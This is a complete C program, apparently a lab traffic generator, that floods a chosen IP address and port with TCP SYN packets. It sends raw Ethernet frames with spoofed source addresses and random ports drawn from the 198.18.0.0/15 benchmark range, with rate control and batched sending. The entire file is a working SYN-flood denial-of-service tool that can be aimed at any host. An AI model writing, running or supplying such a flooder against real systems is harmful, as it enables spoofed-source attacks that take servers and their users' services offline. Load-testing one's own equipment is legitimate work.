// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * synflood.c - sends SYNs from addresses that never answer, as fast as asked. Usage: synflood INTERFACE OWN_MAC
 * SERVICE_MAC SERVICE_IPV4 PORT COUNT PER_SECOND. Each is from another address and port of 198.18.0.0/15 (RFC 2544), with
 * the options of an ordinary client. Prints how many left.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

#define BATCH	64
#define OPTIONS 20

struct frame {
	unsigned char destination[6], source[6];
	unsigned short type;
	struct iphdr ip;
	struct tcphdr tcp;
	unsigned char options[OPTIONS];
} __attribute__((packed));

static unsigned long long state = 88172645463325252ULL;

static unsigned random32(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (unsigned)(state >> 16);
}

static unsigned sum(const void *data, size_t bytes, unsigned start)
{
	const unsigned char *p = data;

	for (size_t i = 0; i + 1 < bytes; i += 2)
		start += (unsigned)(p[i] << 8 | p[i + 1]);
	return start;
}

static unsigned short fold(unsigned total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return htons((unsigned short)~total);
}

static void aim(struct frame *f)
{
	unsigned pseudo;

	f->ip.saddr = htonl(0xc6120000u | (random32() & 0x1ffff));
	f->ip.check = 0;
	f->ip.check = fold(sum(&f->ip, sizeof(f->ip), 0));
	f->tcp.source = htons((unsigned short)(1024 + random32() % 60000));
	f->tcp.seq = random32();
	f->tcp.check = 0;
	pseudo = sum(&f->ip.saddr, 8, IPPROTO_TCP + sizeof(f->tcp) + OPTIONS);
	f->tcp.check = fold(sum(&f->tcp, sizeof(f->tcp) + OPTIONS, pseudo));
}

static int read_mac(const char *text, unsigned char *mac)
{
	unsigned b[6];

	if (sscanf(text, "%x:%x:%x:%x:%x:%x", b, b + 1, b + 2, b + 3, b + 4, b + 5) != 6)
		return -1;
	for (int i = 0; i < 6; i++)
		mac[i] = (unsigned char)b[i];
	return 0;
}

static void prepare(struct frame *f, char **arguments)
{
	static const unsigned char options[OPTIONS] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7};

	memset(f, 0, sizeof(*f));
	f->type = htons(ETHERTYPE_IP);
	f->ip.version = 4;
	f->ip.ihl = 5;
	f->ip.ttl = 60;
	f->ip.protocol = IPPROTO_TCP;
	f->ip.tot_len = htons((unsigned short)(sizeof(*f) - 14));
	f->ip.daddr = inet_addr(arguments[4]);
	f->tcp.dest = htons((unsigned short)atoi(arguments[5]));
	f->tcp.doff = 5 + OPTIONS / 4;
	f->tcp.syn = 1;
	f->tcp.window = htons(64240);
	memcpy(f->options, options, OPTIONS);
	if (read_mac(arguments[2], f->source) || read_mac(arguments[3], f->destination))
		exit(2);
}

static double seconds(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

int main(int count, char **arguments)
{
	struct frame frames[BATCH];
	struct mmsghdr messages[BATCH];
	struct iovec parts[BATCH];
	struct sockaddr_ll to = {.sll_family = AF_PACKET};
	long wanted, sent = 0;
	double rate, start;
	int s;

	if (count != 8)
		return 2;
	wanted = atol(arguments[6]);
	rate = atof(arguments[7]);
	to.sll_ifindex = (int)if_nametoindex(arguments[1]);
	s = socket(AF_PACKET, SOCK_RAW, 0);
	if (s < 0 || !to.sll_ifindex || bind(s, (struct sockaddr *)&to, sizeof(to))) {
		perror("synflood");
		return 1;
	}
	memset(messages, 0, sizeof(messages));
	for (int i = 0; i < BATCH; i++) {
		prepare(&frames[i], arguments);
		parts[i].iov_base = &frames[i];
		parts[i].iov_len = sizeof(frames[i]);
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	start = seconds();
	while (sent < wanted) {
		struct timespec pause = {.tv_nsec = 200000};
		int done;

		if ((double)sent > (seconds() - start) * rate) {
			nanosleep(&pause, NULL);
			continue;
		}
		for (int i = 0; i < BATCH; i++)
			aim(&frames[i]);
		done = sendmmsg(s, messages, BATCH, 0);
		if (done < 0 && errno != ENOBUFS) {
			perror("sendmmsg");
			return 1;
		}
		sent += done > 0 ? done : 0;
	}
	printf("sent %ld in %.1f s\n", sent, seconds() - start);
	return 0;
}
